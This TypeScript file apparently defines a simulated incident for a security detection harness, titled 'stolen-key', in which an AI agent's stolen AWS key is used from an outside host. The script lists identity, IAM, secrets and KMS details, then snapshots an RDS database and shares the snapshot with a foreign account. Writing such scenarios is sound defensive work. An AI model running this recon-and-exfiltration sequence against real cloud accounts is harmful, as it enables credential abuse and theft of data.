import { incident } from './incident.ts'

export const stolenKey = incident({
  id: 'stolen-key',
  title: 'The key is used from a network nobody here uses',
  description:
    'Somebody signs with the agent’s long-term key from a hosting provider, with the command line instead of the library, while the agent itself works on. First who am I, then what may I, then a copy of the database.',
  techniques: ['T1078.004', 'T1552.005', 'T1580'],
  agentId: 'db-indexer',
  act(script) {
    const as = {
      address: '198.51.100.7',
      userAgent:
        'aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/linux#6.12.33+kali-amd64 lang/python#3.13.4',
    }
    const look = (service: string, action: string, request = '{}'): void => {
      script.aws({ service, action, request }, as)
      script.wait(4_000)
    }
    look('sts', 'GetCallerIdentity', 'null')
    look('iam', 'ListAttachedUserPolicies', '{"userName":"svc-db-indexer"}')
    look('iam', 'GetAccountAuthorizationDetails')
    look('s3', 'ListBuckets')
    look('ec2', 'DescribeInstances')
    look('rds', 'DescribeDBInstances', '{"maxRecords":100}')
    look('secretsmanager', 'ListSecrets')
    look('kms', 'ListKeys')
    script.aws(
      {
        service: 'rds',
        action: 'CreateDBSnapshot',
        writes: true,
        request: '{"dBSnapshotIdentifier":"copy-1","dBInstanceIdentifier":"staging-core"}',
      },
      as,
    )
    script.wait(20_000)
    script.aws(
      {
        service: 'rds',
        action: 'ModifyDBSnapshotAttribute',
        writes: true,
        request:
          '{"dBSnapshotIdentifier":"copy-1","attributeName":"restore","valuesToAdd":["999988887777"]}',
      },
      as,
    )
  },
})
